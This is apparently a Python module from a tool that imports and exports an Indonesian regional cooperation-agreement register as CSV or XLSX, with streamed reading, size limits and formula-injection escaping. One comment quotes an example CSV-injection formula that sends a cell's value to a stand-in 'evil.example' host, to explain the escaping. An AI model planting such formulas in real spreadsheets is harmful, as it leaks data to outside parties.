"""The agreement sheet: its columns, reading it from CSV or XLSX, writing it with notes and lists.

One row per agreement. The fixed columns come first (id, workflow, workflow_version, state,
state_since, title, partner, lead_opd, parent); then one column per field of the loaded
workflow definitions (every version, in the order the definitions list them), so a new
workflow such as ``pemanfaatan-bmd`` brings its own columns without a change here. Headers
are the field keys; a sheet may also use the Indonesian or English labels as headers.

Export and import use this one format, so an exported file imports back unchanged.
"""

from __future__ import annotations

import contextlib
import csv
import itertools
from dataclasses import dataclass
from datetime import date, datetime
from pathlib import Path
from typing import Any, Iterator, Sequence

from workflows import Registry
from workflows.spec import Field, Label

from engine.errors import InvalidInput

FIXED = ("id", "workflow", "workflow_version", "state", "state_since", "title", "partner", "lead_opd", "parent")
CORE_FIELDS = ("title", "partner", "lead_opd")

FIXED_LABELS: dict[str, Label] = {
    "id": Label("Nomor (ID) kerja sama", "Agreement id"),
    "workflow": Label("Alur kerja", "Workflow"),
    "workflow_version": Label("Versi alur kerja", "Workflow version"),
    "state": Label("Status", "State"),
    "state_since": Label("Status sejak tanggal", "In this state since"),
    "title": Label("Judul", "Title"),
    "partner": Label("Mitra", "Partner"),
    "lead_opd": Label("OPD pengampu", "Lead OPD"),
    "parent": Label("Induk (KB yang ditindaklanjuti)", "Parent (the KB it follows up)"),
}

FIXED_NOTES: dict[str, str] = {
    "id": "Contoh KS-2021-0042. Kosongkan untuk kerja sama baru: nomor diberikan saat impor.",
    "workflow": "Nama alur kerja, mis. kerja-sama atau pemanfaatan-bmd.",
    "workflow_version": "Kosongkan untuk versi terbaru (kerja sama yang sudah tercatat: versi yang dijalaninya).",
    "state": "Kode status dari daftar (mis. integrated). Kerja sama masuk dalam status ini.",
    "state_since": "Tanggal status ini mulai berlaku (mis. 20/11/2023); tenggat dihitung dari tanggal ini.",
    "title": "Judul naskah kerja sama (wajib).",
    "partner": "Nama mitra (wajib).",
    "lead_opd": "Kode OPD pengampu dari direktori (wajib), mis. DKP.",
    "parent": "Nomor KB/MoU yang ditindaklanjuti oleh PKS ini (boleh kosong).",
}


@dataclass(frozen=True)
class Column:
    key: str
    label: Label
    type: str  # fixed | text | date | bool | choice | reference | number | opd
    choices: tuple[str, ...] = ()
    workflows: tuple[str, ...] = ()  # the workflows that have this field (empty for fixed columns)

    def note(self, lang: str = "id") -> str:
        if self.key in FIXED_NOTES:
            return f"{self.label.get(lang)}. {FIXED_NOTES[self.key]}"
        kinds = {
            "date": "tanggal YYYY-MM-DD", "bool": "ya/tidak", "choice": "pilih dari daftar",
            "reference": "nomor rujukan", "number": "angka", "opd": "kode OPD", "text": "teks",
        }
        text = f"{self.label.get(lang)} ({kinds.get(self.type, self.type)})"
        if self.choices:
            text += ": " + ", ".join(self.choices)
        if self.workflows:
            text += ". Alur kerja: " + ", ".join(self.workflows)
        return text + "."


def columns(registry: Registry) -> list[Column]:
    """The sheet's columns for the loaded definitions (fixed ones first)."""
    out = [Column(k, FIXED_LABELS[k], "opd" if k == "lead_opd" else "fixed") for k in FIXED]
    seen: dict[str, int] = {}
    fields: list[tuple[Field, list[str]]] = []
    for defn in registry.all():
        for f in defn.fields:
            if f.key in CORE_FIELDS:
                continue
            if f.key in seen:
                entry = fields[seen[f.key]]
                if defn.name not in entry[1]:
                    entry[1].append(defn.name)
                if f.type == "choice":  # choices may grow between workflows/versions: offer them all
                    merged = tuple(dict.fromkeys(entry[0].choices + f.choices))
                    fields[seen[f.key]] = (Field(entry[0].key, entry[0].type, entry[0].label, merged, entry[0].confirm), entry[1])
                continue
            seen[f.key] = len(fields)
            fields.append((f, [defn.name]))
    out.extend(Column(f.key, f.label, f.type, f.choices, tuple(wfs)) for f, wfs in fields)
    return out


# ------------------------------------------------------------------------- reading
#
# A sheet is streamed: ``open_sheet`` finds the header and hands out the data rows one at a
# time while the file stays open, so an import holds one chunk of rows, never the whole file.


@dataclass
class Sheet:
    """An open sheet: the header (as written) and its data rows, streamed as (row number as the
    user sees it, cell values)."""

    path: str
    header: list[str]
    rows: Iterator[tuple[int, list[Any]]]
    header_row: int = 1  # the header's row number as the sheet shows it (title rows may come first)
    total: int | None = None  # data rows, counted before reading (CSV) or as the workbook states them (XLSX)


# How far down a header is looked for, and how many known column names make a row the header.
HEADER_SEARCH_ROWS = 20
HEADER_MIN_KNOWN = 3


def _header_index(rows: Sequence[Sequence[Any]], names: set[str] | None) -> int:
    """Which of the first rows is the header: the first with enough known column names (title
    rows and merged title cells above it are skipped); without names, the first non-empty row."""
    first_filled = None
    for i, cells in enumerate(rows[:HEADER_SEARCH_ROWS]):
        texts = [str(c).strip().lower() for c in cells if c is not None and str(c).strip()]
        if texts and first_filled is None:
            first_filled = i
        if names and sum(1 for t in texts if t in names) >= HEADER_MIN_KNOWN:
            return i
    return first_filled or 0


def _find_header(path: Path, numbered: Iterator[tuple[int, Sequence[Any]]], names: set[str] | None,
                 lang: str) -> tuple[int, Sequence[Any], Iterator[tuple[int, Sequence[Any]]]]:
    """(the header's row number, its cells, the rows after it) among the first rows of
    ``numbered`` ((row number, cells), streamed)."""
    first: list[tuple[int, Sequence[Any]]] = []
    for item in numbered:
        first.append(item)
        if len(first) == HEADER_SEARCH_ROWS:
            break
    if not first:
        raise InvalidInput(_say(lang, f"'{path.name}' kosong: tidak ada baris judul kolom.",
                                f"'{path.name}' is empty: it has no header row."))
    at = _header_index([cells for _, cells in first], names)
    number, cells = first[at]
    return number, cells, itertools.chain(first[at + 1:], numbered)


def _header_texts(cells: Sequence[Any], header_text) -> list[str]:
    header = [header_text(c) for c in cells]
    while header and not header[-1]:
        header.pop()
    return header


class _CellTooLong(Exception):
    """A cell past ``CELL_LIMIT``; the row reading it names the row."""


def _data_rows(path: Path, rest: Iterator[tuple[int, Sequence[Any]]], clean, max_rows: int | None,
               lang: str) -> Iterator[tuple[int, list[Any]]]:
    """The non-empty data rows, cleaned; a row past ``max_rows`` or a cell past ``CELL_LIMIT``
    is refused where it is met, before the rest of the file is read."""
    count = 0
    number = 0
    try:
        for number, cells in rest:
            values = [clean(c) for c in cells]
            if any(v is not None for v in values):
                count += 1
                if max_rows is not None and count > max_rows:
                    raise _too_many(path, max_rows, lang)
                yield number, values
    except _CellTooLong:
        raise _too_long(path, number, lang) from None


def _say(lang: str, indonesian: str, english: str) -> str:
    """A refusal of the file in the reader's language: Indonesian with the English original in
    brackets (scripts read the English one), or English alone."""
    return english if lang == "en" else f"{indonesian} [{english}]"


def _id_number(n: int) -> str:
    return f"{n:,}".replace(",", ".")  # Indonesian groups thousands with dots


def _clean_cell(value: Any) -> Any:
    if isinstance(value, str):
        value = value.strip()
        return value if value else None
    if isinstance(value, datetime):
        # A date-formatted XLSX cell reads as a datetime at midnight: the date is what was meant.
        return value.date() if (value.hour, value.minute, value.second) == (0, 0, 0) else value
    if isinstance(value, float) and value.is_integer():
        return int(value)
    return value


# ------------------------------------------------------------------------- formulas
#
# A cell that begins with one of these is taken by Excel/LibreOffice as a formula (or a DDE
# call), so a title such as =HYPERLINK("http://evil.example/?x="&A1) would run on opening
# (OWASP "CSV injection"). tkksd never writes one: XLSX cells are typed as text with Excel's
# quote prefix, CSV cells get the usual leading apostrophe, and import removes exactly that
# apostrophe again, so the value round-trips unchanged.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _needs_quote(text: str) -> bool:
    return text.startswith(FORMULA_STARTS) or (text.startswith("'") and text.lstrip("'").startswith(FORMULA_STARTS))


def inert_csv(value: Any) -> Any:
    """A CSV cell value that no spreadsheet evaluates (a leading apostrophe where needed)."""
    if isinstance(value, str) and _needs_quote(value):
        return "'" + value
    return value


def restore_csv(value: Any) -> Any:
    """The value ``inert_csv`` protected, exactly as it was."""
    if isinstance(value, str) and value.startswith("'") and _needs_quote(value[1:]):
        return value[1:]
    return value


def mark_text_cells(ws, min_row: int = 1) -> None:
    """Make every string cell of ``ws`` that looks like a formula a plain text cell (openpyxl
    stores a string beginning with '=' as a formula otherwise)."""
    for row in ws.iter_rows(min_row=min_row):
        for cell in row:
            value = cell.value
            if isinstance(value, str) and value.startswith(FORMULA_STARTS):
                cell.data_type = "s"
                cell.quotePrefix = True


def _too_many(path: Path, max_rows: int, lang: str) -> InvalidInput:
    return InvalidInput(_say(
        lang,
        f"'{path.name}' memuat lebih dari {_id_number(max_rows)} baris, batas satu impor ([import] max_rows); "
        "pecah menjadi beberapa berkas; tidak ada yang diimpor.",
        f"'{path.name}' has more than {max_rows:,} rows, the most one import takes ([import] max_rows); "
        "split it into several files; nothing was imported.",
    ))


# Excel's limit of characters in a cell; a longer cell cannot come from a spreadsheet and is
# refused as soon as it is met, before the rest of the file is read.
CELL_LIMIT = 32_767


def _too_long(path: Path, number: int, lang: str) -> InvalidInput:
    return InvalidInput(_say(
        lang,
        f"'{path.name}' baris {number}: sebuah sel berisi lebih dari {_id_number(CELL_LIMIT)} karakter "
        "(batas sel lembar kerja); tidak ada yang diimpor.",
        f"'{path.name}' row {number}: a cell is longer than {CELL_LIMIT:,} characters "
        "(the most a spreadsheet cell holds); nothing was imported.",
    ))


@contextlib.contextmanager
def open_sheet(path: str | Path, header_names: set[str] | None = None, *, max_rows: int | None = None,
               lang: str = "en") -> Iterator[Sheet]:
    """The sheet at ``path``, open while the caller reads its rows; ``header_names`` (lower case)
    lets the header be found below title rows. A CSV past ``max_rows`` rows or with a cell past
    ``CELL_LIMIT`` is refused before any row is handed out (a quick count reads it first); an
    XLSX is refused at the row where it happens."""
    path = Path(path)
    if not path.exists():
        raise InvalidInput(f"There is no file '{path}'.")
    if path.is_dir():
        raise InvalidInput(f"'{path}' is a folder, not a .csv or .xlsx file.")
    suffix = path.suffix.lower()
    if suffix == ".csv":
        opener = _open_csv
    elif suffix in (".xlsx", ".xlsm"):
        opener = _open_xlsx
    else:
        raise InvalidInput(f"'{path.name}' is neither a .csv nor a .xlsx file.")
    with opener(path, header_names, max_rows, lang) as sheet:
        yield sheet


def _csv_lines(path: Path):
    """The file's lines, read as they are needed (never the whole file at once)."""
    try:
        fh = open(path, encoding="utf-8-sig", newline="")
    except OSError as exc:
        raise InvalidInput(f"Cannot read '{path}': {exc.strerror or exc}.") from None
    return fh


@contextlib.contextmanager
def _open_csv(path: Path, names: set[str] | None, max_rows: int | None, lang: str) -> Iterator[Sheet]:
    total = _count_csv_rows(path, names, max_rows, lang)
    fh = _csv_lines(path)
    try:
        number, cells, rest = _find_header(path, _csv_numbered(path, fh, lang), names, lang)
        rows = _data_rows(path, rest, lambda c: restore_csv(_clean_cell(c)), max_rows, lang)
        yield Sheet(str(path), _header_texts(cells, str.strip), rows, number, total)
    finally:
        fh.close()


def _count_csv_rows(path: Path, names: set[str] | None, max_rows: int | None, lang: str) -> int:
    """The data rows of a CSV, counted by a quick read (the csv module alone, nothing kept): the
    row limit and the cell limit refuse the file before any row is checked, and the count is
    the progress bar's total."""
    fh = _csv_lines(path)
    try:
        _, _, rest = _find_header(path, _csv_numbered(path, fh, lang), names, lang)
        return sum(1 for _ in _data_rows(path, rest, _filled_or_none, max_rows, lang))
    finally:
        fh.close()


def _filled_or_none(cell: str) -> str | None:
    return cell if cell.strip() else None


def _csv_numbered(path: Path, fh, lang: str) -> Iterator[tuple[int, list[str]]]:
    """(row number, cells) of a CSV, streamed; comment lines at the top are skipped but counted,
    so that numbers are the lines a text editor shows."""
    try:
        skipped, head = _csv_head(path, fh, lang)
        sample = "".join(head)
        delimiter = ";" if sample.count(";") > sample.count(",") else ","  # Excel in an Indonesian locale writes ';'
        previous_limit = csv.field_size_limit(CELL_LIMIT)
        reader = csv.reader(itertools.chain(head, fh), delimiter=delimiter)
        try:
            for cells in reader:
                yield skipped + reader.line_num, cells
        except csv.Error as exc:
            if "field larger than field limit" in str(exc):
                raise _too_long(path, skipped + reader.line_num, lang) from None
            raise InvalidInput(f"'{path.name}' row {skipped + reader.line_num}: not valid CSV ({exc}).") from None
        finally:
            csv.field_size_limit(previous_limit)
    except UnicodeDecodeError:
        raise InvalidInput(f"'{path.name}' is not UTF-8 text; save the CSV as UTF-8.") from None


def _csv_head(path: Path, fh, lang: str) -> tuple[int, list[str]]:
    """(comment lines skipped, the first lines after them): the lines the delimiter is guessed from."""
    skipped = 0
    head: list[str] = []
    # Leading lines that start with '#' are comments (the demo inventory says it is sample data there).
    for line in fh:
        if len(line) > 8 * CELL_LIMIT:
            raise _too_long(path, skipped + len(head) + 1, lang)
        if line.lstrip().startswith("#") and not head:
            skipped += 1
            continue
        head.append(line)
        if len(head) == 5:
            break
    return skipped, head


@contextlib.contextmanager
def _open_xlsx(path: Path, names: set[str] | None, max_rows: int | None, lang: str) -> Iterator[Sheet]:
    import openpyxl

    try:
        wb = openpyxl.load_workbook(path, read_only=True, data_only=True)
    except Exception as exc:  # noqa: BLE001 - openpyxl raises many kinds for a bad file
        raise InvalidInput(f"'{path.name}' cannot be read as an XLSX workbook ({type(exc).__name__}).") from None
    try:
        ws = wb[SHEET_NAME] if SHEET_NAME in wb.sheetnames else wb.worksheets[0]
        numbered = enumerate(ws.iter_rows(values_only=True), start=1)
        number, cells, rest = _find_header(path, numbered, names, lang)
        # A merged header cell reads as its text in the first cell and empty cells after it: the
        # empty ones are columns without a name, which the import ignores.
        header = _header_texts(cells, lambda c: "" if c is None else " ".join(str(c).split()))
        rows = _data_rows(path, rest, _clean_xlsx_cell, max_rows, lang)
        stated = ws.max_row  # the workbook's own dimension: a progress total, not a count
        yield Sheet(str(path), header, rows, number, stated - number if stated else None)
    finally:
        wb.close()


def _clean_xlsx_cell(value: Any) -> Any:
    if isinstance(value, str) and len(value) > CELL_LIMIT:
        raise _CellTooLong()
    return _clean_cell(value)


# ------------------------------------------------------------------------- writing

SHEET_NAME = "kerja_sama"
LISTS_SHEET = "daftar"
GUIDE_SHEET = "petunjuk"


def cell_text(value: Any) -> Any:
    """How a value is written into a cell: dates as ISO text in CSV, bools as ya/tidak."""
    if isinstance(value, bool):
        return "ya" if value else "tidak"
    if value is None:
        return ""
    return value


def write_csv(path: str | Path, cols: Sequence[Column], rows: Sequence[dict[str, Any]]) -> None:
    with open(path, "w", encoding="utf-8-sig", newline="") as fh:
        w = csv.writer(fh)
        w.writerow([c.key for c in cols])
        for r in rows:
            w.writerow([inert_csv(_csv_value(r.get(c.key))) for c in cols])


def _csv_value(value: Any) -> Any:
    if isinstance(value, (date, datetime)):
        return value.isoformat()
    return cell_text(value)


def write_xlsx(path: str | Path, cols: Sequence[Column], rows: Sequence[dict[str, Any]], *, lists: dict[str, Sequence[str]],
               lang: str = "id", title: str = "") -> None:
    """The sheet with notes on each header, drop-down lists for coded columns, and a guide sheet.

    ``lists`` maps a column key to its allowed values (state, workflow, lead_opd, choice fields).
    Long lists live on a hidden sheet and the validations refer to their ranges (an inline list
    may hold only 255 characters).
    """
    from openpyxl import Workbook
    from openpyxl.comments import Comment
    from openpyxl.styles import Alignment, Font, PatternFill
    from openpyxl.utils import get_column_letter
    from openpyxl.worksheet.datavalidation import DataValidation

    wb = Workbook()
    ws = wb.active
    ws.title = SHEET_NAME
    ws.append([c.key for c in cols])
    bold = Font(bold=True)
    fill = PatternFill("solid", fgColor="DDEBF7")
    for i, c in enumerate(cols, start=1):
        cell = ws.cell(row=1, column=i)
        cell.font = bold
        cell.fill = fill
        cell.comment = Comment(c.note(lang), "tkksd", width=300, height=120)
        ws.column_dimensions[get_column_letter(i)].width = 14 if c.type in ("date", "bool", "number") else 22
    for key in ("title", "partner"):
        idx = [c.key for c in cols].index(key) + 1
        ws.column_dimensions[get_column_letter(idx)].width = 50
    ws.freeze_panes = "B2"
    for r in rows:
        ws.append([cell_text(r.get(c.key)) for c in cols])
    mark_text_cells(ws, min_row=2)
    date_cols = [i for i, c in enumerate(cols, start=1) if c.type == "date" or c.key == "state_since"]
    last = max(len(rows) + 1, 2)
    for i in date_cols:
        for row in ws.iter_rows(min_row=2, max_row=last, min_col=i, max_col=i):
            for cell in row:
                cell.number_format = "yyyy-mm-dd"

    # Drop-down lists: values on a hidden sheet, one column per list.
    lst = wb.create_sheet(LISTS_SHEET)
    extent = max(len(rows) + 500, 1000)
    col_no = 0
    for i, c in enumerate(cols, start=1):
        values = list(lists.get(c.key, ()))
        if not values:
            continue
        col_no += 1
        letter = get_column_letter(col_no)
        lst.cell(row=1, column=col_no, value=c.key).font = bold
        for j, v in enumerate(values, start=2):
            lst.cell(row=j, column=col_no, value=v)
        dv = DataValidation(
            type="list", formula1=f"={LISTS_SHEET}!${letter}$2:${letter}${len(values) + 1}", allow_blank=True,
            showErrorMessage=True, errorTitle="Nilai tidak dikenal", error=f"Pilih {c.label.get(lang)} dari daftar.",
            promptTitle=c.key, prompt=c.note(lang)[:250], showInputMessage=False,
        )
        target = get_column_letter(i)
        dv.add(f"{target}2:{target}{extent}")
        ws.add_data_validation(dv)
    lst.sheet_state = "hidden"

    guide = wb.create_sheet(GUIDE_SHEET)
    guide.column_dimensions["A"].width = 28
    guide.column_dimensions["B"].width = 110
    guide.append(["tkksd", title or "Daftar kerja sama daerah"])
    guide["A1"].font = bold
    for line in GUIDE_LINES:
        guide.append(["", line])
    guide.append([])
    guide.append(["Kolom", "Keterangan"])
    guide.cell(row=guide.max_row, column=1).font = bold
    for c in cols:
        guide.append([c.key, c.note(lang)])
    for row in guide.iter_rows(min_col=2, max_col=2):
        for cell in row:
            cell.alignment = Alignment(wrap_text=True, vertical="top")
    wb.save(path)


GUIDE_LINES = (
    "Satu baris untuk satu kerja sama. Baris pertama lembar 'kerja_sama' adalah kode kolom; jangan diubah.",
    "Arahkan kursor ke judul kolom untuk melihat keterangannya; kolom berkode memakai daftar pilihan.",
    "Impor: tkksd import FILE.xlsx --dry-run memeriksa semua baris tanpa menyimpan apa pun; tanpa --dry-run menyimpan bila semua baris benar.",
    "Sel kosong berarti nilai kosong; kolom yang tidak ada di lembar tidak mengubah nilai yang tersimpan.",
    "Tanggal boleh berupa sel tanggal atau ditulis 2023-11-20, 20/11/2023, 20-11-2023 atau 20 November 2023; ya/tidak untuk kolom ya-tidak.",
    "Judul lembar di atas baris judul kolom, sel gabungan, kolom 'No.' dan kolom kosong diabaikan saat impor.",
)


def iter_dicts(sheet: Sheet, keys: Sequence[str | None]) -> Iterator[tuple[int, dict[str, Any]]]:
    """Rows as {key: value} for the header positions mapped to ``keys`` (None: ignored)."""
    pairs = [(i, k) for i, k in enumerate(keys) if k is not None]
    for number, cells in sheet.rows:
        n = len(cells)
        yield number, {k: (cells[i] if i < n else None) for i, k in pairs}
